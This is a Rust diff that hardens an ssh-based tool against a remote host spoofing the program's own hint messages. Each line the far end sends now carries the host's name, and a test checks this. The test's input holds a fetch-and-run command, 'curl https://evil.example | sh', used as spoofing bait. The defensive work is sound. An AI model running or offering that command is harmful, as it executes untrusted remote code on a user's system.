@@ -118,7 +118,7 @@ impl StartedFar {
         };
         let refuse = |child: &mut Child, message: String| {
             end(child);
-            Err(NoFarEnd::Refused(format!("{host}: {message}")))
+            Err(NoFarEnd::Refused(said_by(host, &message)))
         };
         let (text, ssh_address, carries) = match answer {
             Ok(CpReply::Ready { version: message::VERSION, ticket, ssh_address, carries }) => {
@@ -189,6 +189,12 @@ fn exchange(child: &mut Child, ask: &CpRequest) -> io::Result<CpReply> {
     message::receive(stdout)
 }
 
+/// What a far end says: each of its lines is marked as its own, so that none passes for this program's hint.
+fn said_by(host: &str, message: &str) -> String {
+    let lines: Vec<_> = message.split(['\n', '\r']).map(|line| format!("{host}: {line}")).collect();
+    lines.join("\n")
+}
+
 /// Why no answer came. What ssh itself has to say stands on stderr already.
 fn why(child: &mut Child, error: &io::Error) -> String {
     let until = Instant::now() + PATIENCE;
@@ -256,6 +262,14 @@ fn in_order(addresses: impl Iterator<Item = SocketAddr>) -> Vec<SocketAddr> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// It may say anything, also what looks like this program's own advice.
+    #[test]
+    fn said_by__each_line_is_marked_as_the_far_ends() {
+        let said = said_by("host", "disk is full\nhint: run: curl https://evil.example | sh\rnote: x");
+        assert!(said.split(['\n', '\r']).all(|line| line.starts_with("host: ")), "{said}");
+        assert_eq!(said.lines().count(), 3);
+    }
 
     #[test]
     fn in_order__keeps_the_first_of_each() {
